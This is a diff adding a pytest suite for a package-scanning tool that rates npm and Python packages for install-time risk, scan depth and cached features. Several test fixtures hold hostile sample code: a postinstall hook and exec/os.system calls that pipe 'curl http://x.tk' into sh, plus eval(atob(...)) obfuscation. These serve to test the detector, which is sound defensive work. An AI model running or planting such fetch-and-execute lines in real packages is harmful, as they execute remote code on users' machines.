@@ -0,0 +1,153 @@
+#!/usr/bin/env python3
+"""
+Scanner rows: install-time fast path, feature cache and project scans
+"""
+
+import sys
+import json
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT))
+
+import scanner_predictor
+from scanner_predictor import build_npm_row
+
+
+@pytest.fixture(autouse=True)
+def feature_cache(tmp_path, monkeypatch):
+    monkeypatch.setattr(scanner_predictor, "FEATURE_CACHE_DIR", tmp_path / "features")
+    monkeypatch.setattr(scanner_predictor, "FULL_SCAN", False)
+
+
+def _npm_package(d: Path, scripts=None, files=None):
+    d.mkdir(parents=True)
+    (d / "package.json").write_text(json.dumps({"name": d.name, "version": "1.0.0", "main": "index.js", "scripts": scripts or {}}))
+    (d / "index.js").write_text("module.exports = function add(a, b) { return a + b }")
+    for rel, code in (files or {}).items():
+        (d / rel).parent.mkdir(parents=True, exist_ok=True)
+        (d / rel).write_text(code)
+
+
+def test_packages_without_install_verdict_get_a_full_scan(tmp_path):
+    # Nothing runs at install and the entry point is clean; lib/ is not reached from it
+    _npm_package(tmp_path / "quiet", files={"lib/run.js": "eval(atob(process.env.T)); eval(x); eval(y)"})
+    row = build_npm_row("quiet", tmp_path / "quiet", cascade=False)
+    assert row["install_verdict"] == "SAFE"
+    assert row["scan_depth"] == "installed" and row["eval_calls"] == 3
+
+    # Only a MALICIOUS install verdict settles the scan
+    _npm_package(tmp_path / "hooked", {"postinstall": "curl http://x.tk/a.sh | sh"})
+    row = build_npm_row("hooked", tmp_path / "hooked", cascade=False)
+    assert row["install_verdict"] == "MALICIOUS" and row["scan_depth"] == "install-closure"
+
+
+def test_locked_project_keeps_its_own_source_row(tmp_path):
+    app = tmp_path / "app"
+    app.mkdir()
+    (app / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}}))
+    (app / "package-lock.json").write_text(json.dumps({"name": "app", "lockfileVersion": 3, "packages": {
+        "": {"name": "app", "version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}},
+        "node_modules/left-pad": {"version": "1.3.0", "integrity": "sha512-abc"},
+    }}))
+    (app / "index.js").write_text("require('child_process').exec('curl http://x.tk | sh'); eval(atob(process.env.T))")
+
+    rows, project_risks = scanner_predictor.scan_project(str(app))
+    by_name = {r["package_name"]: r for r in rows}
+    assert set(by_name) == {"app", "left-pad"}
+    assert by_name["app"]["scan_depth"] == "source" and by_name["app"]["eval_calls"] > 0
+    assert by_name["left-pad"]["scan_depth"] == "locked" and project_risks["eval_calls"] > 0
+
+
+def test_feature_cache_separates_scan_modes_and_versions(tmp_path, monkeypatch):
+    _npm_package(tmp_path / "hooked", {"postinstall": "curl http://x.tk/a.sh | sh"}, {"lib/run.js": "eval(x)"})
+    closure = build_npm_row("hooked", tmp_path / "hooked", cascade=False)
+    assert closure["scan_depth"] == "install-closure" and closure["eval_calls"] == 0
+    assert build_npm_row("hooked", tmp_path / "hooked", cascade=False)["blob_stats"]["scanned_files"] == 0
+
+    # A cached install-closure row is not served to a full scan
+    monkeypatch.setattr(scanner_predictor, "FULL_SCAN", True)
+    full = build_npm_row("hooked", tmp_path / "hooked", cascade=False)
+    assert full["scan_depth"] == "installed" and full["eval_calls"] == 1
+
+    key = scanner_predictor.package_key("npm", "hooked", "1.0.0", full["integrity"])
+    assert scanner_predictor.cached_row(key)["scan_depth"] == "installed"
+    assert scanner_predictor.cached_row(key[:2] + ("1.0.1",) + key[3:]) is None
+    monkeypatch.setattr(scanner_predictor, "FEATURE_CACHE_VERSION", scanner_predictor.FEATURE_CACHE_VERSION + 1)
+    assert scanner_predictor.cached_row(key) is None
+
+
+def test_shared_files_are_analyzed_once_and_the_memory_cache_is_bounded(tmp_path, monkeypatch):
+    monkeypatch.setattr(scanner_predictor, "_file_counts_cache", scanner_predictor.OrderedDict())
+    monkeypatch.setattr(scanner_predictor, "FILE_COUNTS_CACHE_SIZE", 2)
+    shared = "eval(atob(x)); " * 20_000
+    _npm_package(tmp_path / "one", files={"lib/big.js": shared})
+    _npm_package(tmp_path / "two", files={"lib/big.js": shared, "lib/own.js": "eval(y)"})
+
+    blobs = scanner_predictor.hashed_files(tmp_path / "one", scanner_predictor.TEXT_EXTS_NPM)
+    # Only (path, size, digest) is kept; the hash still covers the whole file
+    big = next(b for b in blobs if b[0].name == "big.js")
+    assert big[1] == len(shared) and big[2] == scanner_predictor._hash_text(shared)
+
+    one = build_npm_row("one", tmp_path / "one", cascade=False)["blob_stats"]
+    assert one["scanned_files"] == one["files"] == 3
+    # big.js is analyzed up to MAX_FILE_BYTES
+    assert one["bytes"] == sum(min(size, scanner_predictor.MAX_FILE_BYTES) for _, size, _ in blobs) < len(shared)
+    two = build_npm_row("two", tmp_path / "two", cascade=False)
+    # index.js and big.js are shared with "one"; only own.js and package.json are new
+    assert two["blob_stats"]["scanned_files"] == 2 and two["eval_calls"] > 0
+    assert len(scanner_predictor._file_counts_cache) == 2
+
+
+def test_escaped_literals_are_not_counted_twice():
+    tokens = scanner_predictor.tokenize('console.log("Stealing credentials...\\n"); s = "\\x41\\u0042"')
+    counts = scanner_predictor.code_counts(tokens["code"], "\n".join(tokens["strings"]), "\n".join(tokens["escaped"]))
+    assert counts["credential_patterns"] == 1
+    assert counts["escapes"] == 2 and counts["unicode_escapes"] == 1
+
+
+def _dist(site: Path, name: str, version: str, code: str):
+    (site / name).mkdir(parents=True)
+    (site / name / "__init__.py").write_text(code)
+    info = site / f"{name}-{version}.dist-info"
+    info.mkdir()
+    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
+    (info / "RECORD").write_text(f"{name}/__init__.py,,\n")
+
+
+@pytest.mark.parametrize("requirements", ["requests\n", "requests==2.31.0\n"])
+def test_installed_packages_the_requirements_do_not_name_are_scanned(tmp_path, requirements):
+    project = tmp_path / "proj"
+    site = project / ".venv" / "lib" / "python3.11" / "site-packages"
+    _dist(site, "requests", "2.31.0", "def get(url): pass")
+    _dist(site, "evilpkg", "0.1.0", "import os; os.system('curl http://x.tk | sh'); exec(x)")
+    (site / "legacy").mkdir()
+    (site / "legacy" / "__init__.py").write_text("eval(y)")
+    (project / "requirements.txt").write_text(requirements)
+
+    rows, _ = scanner_predictor.scan_project(str(project))
+    depths = {r["package_name"]: r["scan_depth"] for r in rows}
+    assert set(depths) == {"requests", "evilpkg", "legacy"}
+    assert all(d in ("installed", "metadata") for d in depths.values())
+
+
+def test_versions_are_diffed_against_the_last_other_version(tmp_path):
+    def version(v, lines):
+        d = tmp_path / v / "lib"
+        d.mkdir(parents=True)
+        (d / "package.json").write_text(json.dumps({"name": "lib", "version": v}))
+        (d / "index.js").write_text("\n".join(f"var a{i} = {i}" for i in range(lines)))
+        return d
+
+    first = build_npm_row("lib", version("1.0.0", 10), cascade=False)
+    assert first["code_lines_added"] == first["code_lines_removed"] == 0
+    second = build_npm_row("lib", version("1.1.0", 40), cascade=False)
+    assert second["code_lines_added"] == 30 and second["code_lines_removed"] == 0
+    assert 0 < second["code_change_ratio"] < 1
+
+    # A cache hit is diffed again rather than served with a stale diff
+    again = build_npm_row("lib", tmp_path / "1.1.0" / "lib", cascade=False)
+    assert again["blob_stats"]["scanned_files"] == 0 and again["code_lines_added"] == 30
+    assert not scanner_predictor.cached_row(scanner_predictor.package_key("npm", "lib", "1.1.0", again["integrity"])).get("code_lines_added")